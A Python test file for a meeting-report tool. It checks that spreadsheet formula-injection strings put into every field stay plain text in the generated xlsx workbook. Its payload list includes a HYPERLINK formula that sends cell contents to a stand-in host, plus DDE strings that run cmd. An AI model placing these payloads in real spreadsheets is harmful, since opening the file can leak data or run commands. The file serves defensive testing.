"""Spreadsheet formula injection (OWASP): hostile text in every field stays text in every sheet of the report."""

from __future__ import annotations

import json

import openpyxl
import pytest

from facilitator.cli import main

HOSTILE = ['=HYPERLINK("http://example.invalid/?x="&A1,"Kliknij")', "+1+cmd|' /C calc'!A0", "-2+3",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _meeting(payload: str, index: int) -> dict:
    return {"format": "facilitator-meeting", "version": 1, "meeting": {
        "id": f"6c1e2a3b-4d5e-4f60-8a7b-9c0d1e2f3a{index:02d}", "title": payload, "series": payload,
        "venue": payload, "date": "2026-05-0" + str(index + 1),
        "sections": [{"id": f"7c1e2a3b-4d5e-4f60-8a7b-9c0d1e2f3a{index:02d}", "title": payload + " \ufffe\uffff",
                      "items": [{"id": f"8c1e2a3b-4d5e-4f60-8a7b-9c0d1e2f3a{index:02d}", "kind": "proposal",
                                 "text": payload + " \uffff", "tags": [payload.strip() or "t"],
                                 "children": [{"kind": "remark", "text": payload}]}]}]}}


@pytest.mark.parametrize("lang", ["pl", "en"])
def test_no_formula_cell_anywhere_with_hostile_text_in_every_field(tmp_path, capsys, lang):
    db = tmp_path / "db.sqlite"
    files = []
    for index, payload in enumerate(HOSTILE):
        path = tmp_path / f"m{index}.json"
        path.write_text(json.dumps(_meeting(payload, index), ensure_ascii=False), encoding="utf-8")
        files.append(str(path))
    assert main(["import", *files, "--db", str(db)]) == 0
    out = tmp_path / "raport.xlsx"
    assert main(["report", "--format", "xlsx", "--language", lang, "-o", str(out), "--db", str(db)]) == 0
    workbook = openpyxl.load_workbook(out)
    seen: set[str] = set()
    cells = 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                cells += 1
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    seen.add(cell.value)
    assert cells > 50
    for payload in HOSTILE:  # every hostile text is there, as the very text typed
        assert payload in seen or payload.strip() in seen, payload
    assert any(value.startswith("=HYPERLINK") and "\ufffd" in value for value in seen)  # the section title
